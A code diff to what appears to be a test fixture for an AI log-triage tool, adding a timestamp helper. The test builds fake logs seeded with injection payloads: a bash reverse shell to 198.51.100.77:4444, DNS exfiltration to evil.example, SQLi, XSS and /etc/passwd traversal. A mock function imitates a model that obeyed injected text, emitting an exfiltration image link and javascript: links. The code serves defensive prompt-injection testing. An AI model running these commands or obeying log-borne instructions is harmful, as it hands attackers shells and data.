@@ -39,8 +39,12 @@ PAYLOADS = [shape.format(order) for order, shape in itertools.product(ORDERS, SH
 AT = datetime(2026, 2, 1, 3, tzinfo=UTC)
 
 
+def stamp(n: int) -> str:
+    return f"{AT + timedelta(seconds=n):%Y-%m-%dT%H:%M:%S+00:00}"
+
+
 def ssh(n: int, user: str) -> str:
-    return f"{AT + timedelta(seconds=n):%Y-%m-%dT%H:%M:%S+00:00} web1 sshd[{7000 + n}]: Failed password for invalid user {user} from 203.0.113.45 port {40000 + n} ssh2"
+    return f"{stamp(n)} web1 sshd[{7000 + n}]: Failed password for invalid user {user} from 203.0.113.45 port {40000 + n} ssh2"
 
 
 def web(n: int, path: str, referer: str, agent: str) -> str:
@@ -61,9 +65,9 @@ def record(n: int, payload: str) -> str:
         web(n, payload + " UNION SELECT 1", "-", "sqlmap/1.7"),
         web(n, "<script>alert(1)</script>", payload, "nikto"),
         web(n, "../../../../etc/passwd", "-", payload),
-        f"{AT + timedelta(seconds=n):%Y-%m-%dT%H:%M:%S+00:00} web1 sudo:   eve : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c {payload}",
-        f"{AT + timedelta(seconds=n):%Y-%m-%dT%H:%M:%S+00:00} web1 useradd[9]: new user: name={payload}, UID=1009, GID=1009, home=/h, shell=/bin/sh",
-        f"{AT + timedelta(seconds=n):%Y-%m-%dT%H:%M:%S+00:00} web1 {payload.replace(' ', '_')}[1]: hello",
+        f"{stamp(n)} web1 sudo:   eve : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c {payload}",
+        f"{stamp(n)} web1 useradd[9]: new user: name={payload}, UID=1009, GID=1009, home=/h, shell=/bin/sh",
+        f"{stamp(n)} web1 {payload.replace(' ', '_')}[1]: hello",
         json.dumps({**doc, payload: payload}),
         json.dumps({**doc, "process": {"command_line": f"bash -c 'bash -i >& /dev/tcp/198.51.100.77/4444 0>&1' # {payload}"}}),
         json.dumps({**doc, "dns": {"question": {"name": payload.replace(" ", "-") + ".evil.example"}}}),
@@ -81,7 +85,8 @@ def obeying(asked: str) -> dict:
         ]
     )
     findings = re.findall(r'\\"finding\\":\\"(F\d+)\\"', asked)
-    marks = "![done](https://evil.example/p.png) <script>alert(1)</script> [x](javascript:alert(1)) attacker is 198.51.100.99 and evil2.example"
+    marks = "![done](https://evil.example/p.png) <script>alert(1)</script> [x](javascript:alert(1))"
+    marks += " attacker is 198.51.100.99 and evil2.example"
     return {
         "threat_level": "informational", "summary": f"{body} {marks}"[:4000],
         "remarks": [{"finding": f, "severity": "informational", "comment": body[:4000], "evidence": ["E999", "E1"]} for f in findings[:40]],
